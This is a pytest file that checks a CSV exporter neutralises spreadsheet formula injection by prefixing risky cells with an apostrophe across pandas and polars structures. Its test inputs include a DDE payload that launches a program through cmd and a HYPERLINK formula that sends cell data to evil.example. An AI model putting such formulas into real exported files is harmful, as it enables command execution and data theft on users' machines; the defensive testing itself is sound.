"""Cells that a spreadsheet would run as a formula are saved as text."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io

import numpy as np
import pandas as pd
import polars as pl
import pytest

from graph_agent.results.formulas import without_formula
from graph_agent.results.value_files import value_files
from sandbox.records import Payload
from sandbox.runner.encode import encode_value
from sandbox.runner.shared.limits import CODEC

RISKY = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\n=1",
    "  =1",
    "\ufeff=cmd|' /C calc'!A0",
    "\u200b=1",
    "＝1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
]
HARMLESS = ["a=1", "1-2", "", "'=1", "x@y", 'say "=1"', "a,=1"]


def rows(name: str, value: object, *, keep: bool = False) -> list[list[str]]:
    payload = Payload(CODEC, "", b"".join(encode_value(value)))
    text = value_files({name: payload}, keep)[f"{name}.csv"].decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_an_apostrophe_everywhere(text: str) -> None:
    frame = pd.DataFrame({text: [text, "a"]}, index=pd.Index([text, "b"], name=text))
    assert rows("frame", frame) == [
        [f"'{text}", f"'{text}"],
        [f"'{text}", f"'{text}"],
        ["b", "a"],
    ]
    assert rows("frame", frame, keep=True)[1] == [text, text]
    assert list(frame.columns) == [text], "the value itself was changed"
    assert rows("series", pd.Series([text], name=text)) == [["", f"'{text}"], ["0", f"'{text}"]]
    assert rows("categories", pd.Series([text], dtype="category"))[1] == ["0", f"'{text}"]
    assert rows("pl_frame", pl.DataFrame({text: [text, "b"]})) == [
        [f"'{text}"],
        [f"'{text}"],
        ["b"],
    ]
    levels = pd.MultiIndex.from_tuples([(text, 1), ("a", -2)], names=[text, "n"])
    assert rows("levels", pd.DataFrame({"x": [1, 2]}, index=levels)) == [
        [f"'{text}", "n", "x"],
        [f"'{text}", "1", "1"],
        ["a", "-2", "2"],
    ]


def test_numbers_and_times_stay_what_they_are() -> None:
    frame = pd.DataFrame(
        {
            "whole": [-5, 5],
            "float": [-0.5, np.nan],
            "mixed": [-5, "=x"],
            "nullable": pd.array([-5, None], dtype="Int64"),
            "exact": [decimal.Decimal("-1.5"), decimal.Decimal(2)],
            "time": pd.to_timedelta([-1, 1], "D"),
            "day": [dt.date(2024, 1, 2), dt.date(2024, 1, 3)],
            -7: [True, False],
        },
        index=[-1, -2],
    )
    assert rows("frame", frame.drop(columns="mixed")) == rows(
        "frame", frame.drop(columns="mixed"), keep=True
    )
    assert [row[0] for row in rows("mixed", frame["mixed"].to_frame())] == ["", "-1", "-2"]
    assert [row[1] for row in rows("mixed", frame["mixed"])] == ["mixed", "-5", "'=x"]
    numbers = pl.DataFrame({"a": [-5, 5], "b": [-0.5, None]})
    assert rows("numbers", numbers) == rows("numbers", numbers, keep=True)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert without_formula(text) is text


def test_labels_may_repeat() -> None:
    frame = pd.DataFrame([["=1", "=2"], ["a", "b"]], columns=["=x", "=x"], index=["i", "i"])
    assert rows("frame", frame) == [["", "'=x", "'=x"], ["i", "'=1", "'=2"], ["i", "a", "b"]]
    twins = pl.DataFrame({"'=x": ["=1"], "=x": ["=2"]})
    assert rows("twins", twins) == [["'=x", "''=x"], ["'=1", "'=2"]]


def test_other_values_are_read_by_their_text() -> None:
    class Odd:
        def __str__(self) -> str:
            return "=1"

    assert without_formula(Odd()) == "'=1"
    assert rows("frame", pd.DataFrame({"lists": [["=1"], {"a": 1}]}))[1] == ["0", "['=1']"]


@pytest.mark.parametrize("library", [pd, pl])
def test_a_carriage_return_begins_no_cell(library: object) -> None:
    frame = library.DataFrame({"a\r=1": ["\r=1", "b\r=1", "c\r\n=1"]})  # type: ignore[attr-defined]
    written = rows("frame", frame)
    assert [row[-1] for row in written] == ["a\n=1", "'\n=1", "b\n=1", "c\n=1"]
